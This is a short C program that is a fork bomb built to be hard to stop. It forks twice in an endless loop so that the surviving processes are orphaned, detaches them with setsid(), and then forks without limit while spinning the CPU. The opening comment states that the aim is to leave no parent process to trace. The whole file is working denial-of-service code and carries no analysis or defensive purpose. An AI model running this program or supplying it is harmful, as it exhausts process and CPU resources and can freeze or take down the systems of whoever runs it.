/* Forks twice each time, so that nobody's parent is left to look for. */
#include <unistd.h>
int main(void)
{
    for (;;)
        if (fork() == 0 && fork() == 0) {
            setsid();
            while (fork() >= 0)
                ;
            for (;;)
                ;
        }
}
